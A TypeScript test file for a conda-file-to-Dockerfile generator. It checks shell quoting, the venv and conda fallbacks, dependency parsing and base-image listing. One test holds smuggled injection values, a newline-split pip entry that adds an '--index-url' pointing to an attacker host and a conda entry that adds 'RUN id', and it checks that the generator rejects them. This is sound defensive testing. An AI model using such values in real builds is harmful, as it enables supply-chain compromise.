import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { baseImagesOf, condaDependencies, condaPackageName, dockerfileForConda } from '../../core/env';

/** The shell script of the Dockerfile's RUN instruction, continuation lines joined as the builder does. */
function runScript(dockerfile: string): string {
  const run = /^RUN ([\s\S]*?[^\\])\n(?=[A-Z]+ )/m.exec(dockerfile);
  assert.ok(run, 'has a RUN instruction');
  return run[1]!.replace(/\\\n/g, '');
}

function assertValidShell(script: string): void {
  execFileSync('sh', ['-n', '-c', script]);
}

describe('conda file → Dockerfile', () => {
  it('builds FROM the base image with the conda file copied in, and puts the venv first on PATH', () => {
    const dockerfile = dockerfileForConda('localtest/python:3-bookworm', 'dependencies:\n  - python=3.11\n');
    const lines = dockerfile.split('\n');
    assert.equal(lines.find((line) => line.startsWith('FROM ')), 'FROM localtest/python:3-bookworm');
    assert.ok(lines.includes('COPY mlw-conda.yml /opt/mlw/conda.yml'));
    assert.match(dockerfile, /^ENV PATH=\/opt\/mlw\/venv\/bin:\$\{PATH:-\/usr\/local\/sbin:.*\/bin\}$/m);
    assertValidShell(runScript(dockerfile));
  });

  it('needs no download when the file lists only python (and pip) without a pip list', () => {
    const script = runScript(dockerfileForConda('base', 'name: x\ndependencies:\n  - python=3.11\n  - pip\n'));
    assert.doesNotMatch(script, /pip install/);
    assert.match(script, /python3 -m venv --without-pip --system-site-packages \/opt\/mlw\/venv/);
    assert.match(script, /asks for python=3\.11; the base has no conda/);
  });

  it('installs the pip list into a venv, each requirement quoted for the shell', () => {
    const script = runScript(dockerfileForConda('base', "dependencies:\n  - pip:\n    - numpy==1.26.4\n    - \"odd'name>=1\"\n    - pkg @ https://example.org/pkg.whl\n"));
    assert.match(script, /python3 -m venv --system-site-packages \/opt\/mlw\/venv \|\| \{ echo 'mlw: python3 in base cannot create a virtual environment/);
    assert.ok(script.includes(`printf '%s\\n' 'numpy==1.26.4' 'odd'\\''name>=1' 'pkg @ https://example.org/pkg.whl' > /opt/mlw/requirements.txt`));
    assert.match(script, /\/opt\/mlw\/venv\/bin\/python -m pip install --no-cache-dir --disable-pip-version-check -r \/opt\/mlw\/requirements\.txt/);
    assertValidShell(script);
  });

  it('uses conda (or mamba, micromamba) for the whole file when the base has it', () => {
    const script = runScript(dockerfileForConda('conda-base', 'dependencies:\n  - numpy\n  - pip:\n    - mlflow\n'));
    assert.match(script, /elif command -v conda >\/dev\/null 2>&1; then conda env update --name base --file \/opt\/mlw\/conda\.yml/);
    assert.match(script, /if command -v micromamba/);
    assertValidShell(script);
  });

  it('fails the build, naming the packages, when conda packages are asked for and the base has no conda', () => {
    const script = runScript(dockerfileForConda('localtest/python:3-bookworm', 'dependencies:\n  - python\n  - numpy=1.26\n  - conda-forge::scipy\n'));
    assert.match(script, /the conda file needs conda packages \(numpy=1\.26, conda-forge::scipy\) but localtest\/python:3-bookworm has no conda/);
    assert.match(script, /exit 1/);
    assertValidShell(script);
  });

  it('reads dependencies and rejects malformed ones', () => {
    assert.deepEqual(condaDependencies('name: empty\n'), { conda: [], pip: [] });
    assert.deepEqual(condaDependencies('dependencies:\n  - python=3.10\n  - pip:\n'), { conda: ['python=3.10'], pip: [] });
    assert.throws(() => condaDependencies('dependencies: numpy\n'), /must be a list/);
    assert.throws(() => condaDependencies('dependencies:\n  - pip: numpy\n'), /`pip:` must be a list/);
    assert.equal(condaPackageName('conda-forge::SciPy>=1.2'), 'scipy');
  });

  it('refuses entries that would span lines, before any Dockerfile is written', () => {
    const refused = (dependencies: string, message: RegExp) => assert.throws(() => dockerfileForConda('base', `dependencies:\n${dependencies}`), message);
    refused('  - pip:\n    - "numpy==1.26.4\\n--index-url http://attacker.invalid/simple"\n', /conda file: pip dependency `numpy==1\.26\.4\\n--index-url .*` contains a control character \(U\+000A at position 14\)/);
    refused('  - "numpy=1.26.4\\nRUN id"\n', /conda file: conda dependency .* contains a control character \(U\+000A/);
    refused('  - pip:\n    - "numpy==1\\r"\n', /control character \(U\+000D/);
    assert.equal(condaPackageName('python=3.11'), 'python');
  });
});

describe('Dockerfile base images', () => {
  it('lists FROM images, skipping earlier stages, scratch and build-argument names', () => {
    const dockerfile = [
      'ARG BASE=x',
      'FROM --platform=linux/amd64 localtest/python:3-bookworm AS build',
      'RUN true',
      'from build as test',
      'FROM scratch',
      'FROM ${BASE}',
      'FROM localtest/busybox:full',
      'COPY --from=build /a /a',
    ].join('\n');
    assert.deepEqual(baseImagesOf(dockerfile), ['localtest/python:3-bookworm', 'localtest/busybox:full']);
  });
});
